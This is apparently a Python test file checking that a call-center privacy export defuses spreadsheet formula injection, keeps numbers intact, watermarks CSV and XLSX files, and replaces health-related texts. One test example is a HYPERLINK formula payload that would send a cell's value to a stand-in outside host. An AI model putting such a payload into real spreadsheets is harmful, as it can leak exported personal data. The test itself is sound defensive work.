"""Whatever stands in a cell: no spreadsheet calculates it, and numbers stay numbers (R41)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from callcenter.domain.spreadsheets import POINTER, Sheet, harmless, is_formula, neutral
from callcenter.service.privacy.export_files import FileKind, Mark, written

MARK = Mark(
    id="ex-" + "0" * 32, by="s001", at=datetime(2026, 11, 23, tzinfo=UTC), zone=ZoneInfo("Asia/Shanghai")
)
starts = st.sampled_from([*"=+-@＝＋－＠﹢﹣−\t\r\n", "\r\n"])
before = st.text(st.sampled_from(" '\"‘“＇\u3000\u00a0\u200b\ufeff\u2060\x00"), max_size=4)
cells = st.one_of(st.text(max_size=30), st.integers(-(10**12), 10**12), st.none(), st.booleans())


@given(skipped=before, start=starts, rest=st.text(max_size=10))
@example(skipped="", start="=", rest='HYPERLINK("http://a.example/?"&A1)')
@example(skipped="'", start="＝", rest="1+1")
@example(skipped="\u3000", start="@", rest="SUM(1)")
def test_what_a_spreadsheet_would_calculate_is_put_behind_an_apostrophe(
    skipped: str, start: str, rest: str
) -> None:
    text = harmless(skipped + start + rest)
    assert isinstance(text, str)
    assert text.startswith("'")


@given(text=st.text(st.sampled_from("字a1.：（%/ "), max_size=10), more=st.text(max_size=5))
def test_a_text_that_begins_like_a_text_is_left_as_it_is(text: str, more: str) -> None:
    if text.strip():
        assert not is_formula(text + more)


@given(number=st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers(number: float) -> None:
    assert harmless(number) is number


@given(rows=st.lists(st.tuples(cells, cells), max_size=5))
def test_every_text_of_a_csv_is_harmless_and_comes_back(rows: list[tuple[object, object]]) -> None:
    sheet = Sheet(title="表", headings=("甲", "乙"), rows=tuple(rows))  # type: ignore[arg-type]
    raw = written(FileKind.CSV, [sheet], MARK)
    assert raw.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert read[0] == read[-1] == [MARK.text]
    assert len(read) == len(rows) + 3
    for line, row in zip(read[2:-1], rows, strict=True):
        for cell, value in zip(line, row, strict=True):
            assert not is_formula(cell) or cell.startswith("'") or isinstance(value, int)


@given(rows=st.lists(st.tuples(cells, cells), max_size=4))
def test_every_cell_of_a_workbook_is_a_text_or_a_number_never_a_formula(
    rows: list[tuple[object, object]],
) -> None:
    sheet = Sheet(title="表[1]:*", headings=("甲", "乙"), rows=tuple(rows))  # type: ignore[arg-type]
    raw = written(FileKind.XLSX, [sheet], MARK)
    book = load_workbook(io.BytesIO(raw))
    page = book.worksheets[0]
    for line in page.iter_rows():
        for cell in line:
            assert cell.data_type in {"s", "n", "inlineStr"}
    assert page.cell(1, 1).value == page.cell(page.max_row, 1).value == MARK.text
    assert (book.properties.creator, book.properties.identifier) == ("s001", MARK.id)
    assert page.oddHeader is not None
    assert MARK.id in str(page.oddHeader.center.text)
    with zipfile.ZipFile(io.BytesIO(raw)) as packed:
        assert b"<f>" not in b"".join(packed.read(name) for name in packed.namelist() if "sheet" in name)


@given(
    rows=st.lists(
        st.tuples(st.sampled_from(["睡不好", "抑郁症", "医生说是双相障碍", "「我有抑郁症」"]), st.integers()),
        max_size=6,
    )
)
def test_texts_with_something_found_in_them_are_replaced_and_their_places_told(
    rows: list[tuple[str, int]],
) -> None:
    sheet = Sheet(title="表", headings=("记录", "数"), rows=tuple(rows))
    clean, places = neutral(sheet, lambda text: ("症",) if "症" in text else ())
    expected = [n for n, (text, _) in enumerate(rows, start=1) if "症" in text]
    assert places == tuple((n, "记录") for n in expected)
    assert [row[0] for row in clean.rows] == [POINTER if "症" in text else text for text, _ in rows]
    assert [row[1] for row in clean.rows] == [number for _, number in rows]
